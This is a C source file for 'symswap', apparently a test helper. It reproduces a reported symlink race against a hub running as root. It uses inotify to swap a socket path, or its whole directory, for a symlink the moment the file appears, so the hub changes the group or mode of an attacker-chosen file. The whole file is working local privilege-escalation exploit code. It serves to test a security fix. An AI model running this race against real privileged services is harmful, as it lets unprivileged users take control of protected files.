/* symswap: the attacker of the -socket symlink race (issue 16, finding 1),
 * run as an unprivileged user next to a hub running as root.
 *
 *   symswap DIR NAME TARGET        replace DIR/NAME with a symlink to TARGET
 *   symswap DIR NAME TARGET dir    replace DIR itself with a symlink to
 *                                  TARGET (DIR is renamed to DIR.old first)
 *
 * It watches DIR with inotify and swaps the moment NAME is created there,
 * so a hub that changes the file's group or mode by path after bind() does
 * it to TARGET instead. It prints "swapped" for every swap, and runs until
 * killed; the test puts DIR back between tries. */
#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

static char lnk[PATH_MAX], aside[PATH_MAX], swap[PATH_MAX];

/* The symlink made ahead of time, so the swap itself is one rename. */
static void prepare(const char *target)
{
	if (symlink(target, lnk) < 0 && errno != EEXIST) {
		perror("symswap: symlink");
		exit(1);
	}
}

static void attack(const char *target, int whole_dir)
{
	if (whole_dir && rename(swap, aside) < 0)
		return;
	if (rename(lnk, swap) == 0) {
		printf("swapped\n");
		fflush(stdout);
	}
	prepare(target);
}

int main(int argc, char **argv)
{
	char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
	int whole_dir = argc == 5 && !strcmp(argv[4], "dir");

	if (argc != 4 && !whole_dir) {
		fprintf(stderr, "usage: symswap DIR NAME TARGET [dir]\n");
		return 64;
	}
	const char *dir = argv[1], *name = argv[2], *target = argv[3];
	if (whole_dir) {
		snprintf(swap, sizeof(swap), "%s", dir);
		snprintf(aside, sizeof(aside), "%s.old", dir);
		snprintf(lnk, sizeof(lnk), "%s.lnk", dir);
	} else {
		snprintf(swap, sizeof(swap), "%s/%s", dir, name);
		snprintf(lnk, sizeof(lnk), "%s/.symswap.lnk", dir);
	}
	int in = inotify_init1(IN_CLOEXEC);
	if (in < 0 || inotify_add_watch(in, dir, IN_CREATE) < 0) {
		perror("symswap: inotify");
		return 1;
	}
	prepare(target);
	printf("watching\n");
	fflush(stdout);
	for (;;) {
		ssize_t n = read(in, buf, sizeof(buf));
		if (n <= 0)
			return n < 0 && errno != EINTR;
		for (char *p = buf; p < buf + n;) {
			const struct inotify_event *ev = (const struct inotify_event *)p;
			if (ev->len && !strcmp(ev->name, name))
				attack(target, whole_dir);
			p += sizeof(*ev) + ev->len;
		}
	}
}
